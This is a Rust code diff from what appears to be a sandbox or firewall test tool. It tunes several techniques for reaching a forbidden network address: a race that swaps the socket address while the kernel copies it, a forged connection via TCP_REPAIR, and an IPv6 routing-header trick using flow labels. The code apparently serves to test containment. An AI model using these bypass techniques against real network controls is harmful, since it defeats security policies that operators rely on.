@@ -23,7 +23,7 @@ pub(crate) const TECHNIQUES: &[Technique] = &[
 
 /// One thread changes the address from the granted one to the forbidden one and back, another one sends.
 fn changing_name(aim: &Aim) -> Result<(), Refused> {
-    const ROUNDS: usize = 20_000;
+    const ROUNDS: usize = 500;
     let socket = sys::open(aim)?;
     let names = [Name::of(aim.granted), Name::of(aim.forbidden)];
     let length = names[0].length;
@@ -36,11 +36,14 @@ fn changing_name(aim: &Aim) -> Result<(), Refused> {
                     // SAFETY: the place is as large, and lives until the process ends. The kernel copies it with
                     // no lock, which is the attack; nobody here reads it.
                     unsafe { std::ptr::write_volatile(changing as *mut libc::sockaddr_storage, name.storage) };
+                    // On one processor, both get a turn.
+                    std::thread::yield_now();
                 }
             }
         });
         let mut outcome = Ok(());
         for _ in 0..ROUNDS {
+            std::thread::yield_now();
             // SAFETY: message and name are alive and as long as is said.
             let sent = unsafe {
                 let (message, name) = (sys::MESSAGE.as_ptr().cast(), changing as *const libc::sockaddr);
@@ -67,11 +70,13 @@ fn corked(aim: &Aim) -> Result<(), Refused> {
 /// TCP_REPAIR makes a connection of what it is told, and sends nothing for it.
 fn repaired(aim: &Aim) -> Result<(), Refused> {
     const TCP_REPAIR: i32 = 19;
+    const TCP_REPAIR_OFF_NO_WP: i32 = -1;
     let socket = sys::open(aim)?;
     sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR, &1i32)?;
     sys::bind(&socket, &Name::of(SocketAddr::new(aim.granted.ip(), 0)))?;
     sys::connect(&socket, &Name::of(aim.forbidden))?;
-    sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR, &0i32)?;
+    // Nothing but the message: what else the kernel would send is answered with a reset.
+    sys::set(&socket, libc::IPPROTO_TCP, TCP_REPAIR, &TCP_REPAIR_OFF_NO_WP)?;
     sys::send(&socket)
 }
 
@@ -132,16 +137,17 @@ fn flow_label(aim: &Aim) -> Result<(), Refused> {
     const IPV6_FLOWLABEL_MGR: i32 = 32;
     const IPV6_FLOWINFO_SEND: i32 = 33;
     const IPV6_RTHDR: i32 = 57;
-    const LABEL: u32 = 0x1_2345;
     let (IpAddr::V6(granted), IpAddr::V6(forbidden)) = (aim.granted.ip(), aim.forbidden.ip()) else {
         return Err(Refused::new("aim", libc::EINVAL));
     };
+    // A label is its process's alone for a while after the process is gone.
+    let label = 0x1_0000 + std::process::id();
     // Mobility's routing header (RFC 6275): next header, length, type 2, one segment left, four bytes, address.
     let mut header = vec![0, 2, 2, 1, 0, 0, 0, 0];
     header.extend(forbidden.octets());
     // `struct in6_flowlabel_req`: address, label, action GET, share EXCL, flags CREATE, times; then control messages.
     let mut request = granted.octets().to_vec();
-    request.extend(LABEL.to_be_bytes());
+    request.extend(label.to_be_bytes());
     request.extend([0, 1]);
     request.extend(1u16.to_ne_bytes());
     request.extend([0; 8]);
@@ -151,6 +157,6 @@ fn flow_label(aim: &Aim) -> Result<(), Refused> {
     sys::set(&socket, libc::IPPROTO_IPV6, IPV6_FLOWINFO_SEND, &1i32)?;
     let mut name = Name::of(aim.granted);
     // SAFETY: an IPv6 name has its flow label there.
-    unsafe { (*(&raw mut name.storage).cast::<libc::sockaddr_in6>()).sin6_flowinfo = LABEL.to_be() };
+    unsafe { (*(&raw mut name.storage).cast::<libc::sockaddr_in6>()).sin6_flowinfo = label.to_be() };
     sys::sendto(&socket, sys::MESSAGE, 0, &name)
 }
